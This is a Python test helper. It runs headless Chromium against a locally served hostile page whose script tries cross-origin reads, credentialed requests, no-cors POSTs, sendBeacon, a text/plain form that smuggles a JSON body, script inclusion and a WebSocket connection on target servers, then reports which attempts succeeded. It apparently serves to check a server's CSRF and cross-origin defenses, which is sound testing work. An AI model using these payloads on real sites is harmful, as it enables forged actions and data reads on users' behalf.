"""A hostile web page in a real browser, and a server that would fall for it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), ""
)

_QUIET = (
    "--headless",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
)

_PAGE = """<!doctype html><title>A page from elsewhere</title><script>
const targets = TARGETS;
const later = (ms) => new Promise((done) => setTimeout(done, ms));
const element = (name, values) => Object.assign(document.createElement(name), values);
async function attack({url, read, write, body, login, socket, method}) {
  const got = {};
  const attempt = async (name, how) => {
    try { got[name] = String(await Promise.race([how(), later(8000).then(() => "nothing")])); }
    catch (error) { got[name] = "refused: " + error; }
  };
  const text = async (path, how) => {
    const answer = await fetch(url + path, how);
    return "read: " + await answer.text();
  };
  const simple = async (type) => {
    const answer = await fetch(url + write, {method: "POST", mode: "no-cors", body: new Blob([body], {type})});
    return answer.type;
  };
  const json = {"Content-Type": "application/json"};
  const known = {Authorization: "Basic " + btoa(login)};
  await attempt("read", () => text(read));
  await attempt("read with login", () => text(read, {headers: known}));
  await attempt("read with cookies", () => text(read, {credentials: "include"}));
  await attempt("json", () => text(write, {method, body, headers: json}));
  await attempt("json with login", () => text(write, {method, body, headers: {...json, ...known}}));
  await attempt("text", () => simple("text/plain"));
  await attempt("form data", () => simple("application/x-www-form-urlencoded"));
  await attempt("untyped", () => simple(""));
  await attempt("beacon", async () => navigator.sendBeacon(url + write, new Blob([body], {type: "text/plain"})));
  await attempt("form", async () => {
    const frame = element("iframe", {name: url + write});
    const form = element("form", {method: "POST", action: url + write, target: url + write, enctype: "text/plain"});
    form.append(element("input", {name: body.slice(0, -1) + ',"a":"', value: '"}'}));
    document.body.append(frame, form);
    form.submit();
    await later(500);
    return "sent";
  });
  await attempt("script", () => new Promise((done, fail) => {
    const script = {src: url + read, onload: () => done("loaded"), onerror: () => fail("no")};
    document.body.append(element("script", script));
  }));
  await attempt("socket", () => new Promise((done, fail) => {
    const connection = new WebSocket(url.replace("http", "ws") + socket, ["prefect"]);
    connection.onopen = () => done("open");
    connection.onerror = () => fail("closed");
  }));
  return got;
}
addEventListener("load", async () => {
  const names = Object.keys(targets);
  const reports = await Promise.all(names.map((name) => attack(targets[name])));
  const report = Object.fromEntries(names.map((name, number) => [name, reports[number]]));
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
});
</script><body>"""


@dataclass(frozen=True)
class Target:
    """What the page attacks: an address, a path to read and one to write to, with a body in JSON (an object)."""

    url: str
    read: str
    write: str
    body: dict[str, Any]
    login: str = "har:unknown"
    socket: str = "/"
    method: str = "POST"


@dataclass
class Elsewhere:
    """The server of the hostile page; as a target it answers everybody, and notes what reached it."""

    port: int
    page: bytes = b""
    reached: list[tuple[str, str]] = field(default_factory=list)
    report: dict[str, dict[str, str]] | None = None
    reported: threading.Event = field(default_factory=threading.Event)


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    """Run that server on a port of this machine."""

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            site.reached.append((self.command, self.path))
            if self.path == "/report":
                site.report = json.loads(body)
                site.reported.set()
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
            self.send_header("Access-Control-Allow-Credentials", "true")
            self.send_header("Access-Control-Allow-Methods", "POST")
            self.send_header("Access-Control-Allow-Headers", "authorization, content-type")
            content = site.page if self.path == "/page" else b"1"
            self.send_header("Content-Type", "text/html" if self.path == "/page" else "text/javascript")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_GET = do_POST = do_PATCH = do_OPTIONS = _answer  # noqa: N815

        def log_message(self, format: str, *arguments: Any) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        site = Elsewhere(server.server_port)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield site
        finally:
            server.shutdown()
            thread.join()


def visit(site: Elsewhere, name: str, targets: dict[str, Target], folder: Path) -> dict[str, dict[str, str]]:
    """Let a browser open the hostile page under the host `name`; what each attempt on each target came to."""
    site.page = _PAGE.replace("TARGETS", json.dumps({key: _json(target) for key, target in targets.items()})).encode()
    site.reported.clear()
    command = [CHROMIUM, *_QUIET, f"--user-data-dir={folder}", "--host-resolver-rules=MAP *.example 127.0.0.1"]
    if os.getuid() == 0:
        command.append("--no-sandbox")
    command += ["--remote-debugging-port=0", f"http://{name}:{site.port}/page"]  # without a port it ends at once
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
        try:
            assert site.reported.wait(120), "the page did not report"
        finally:
            browser.terminate()
    assert site.report is not None
    return site.report


def _json(target: Target) -> dict[str, str]:
    return {**vars(target), "body": json.dumps(target.body)}
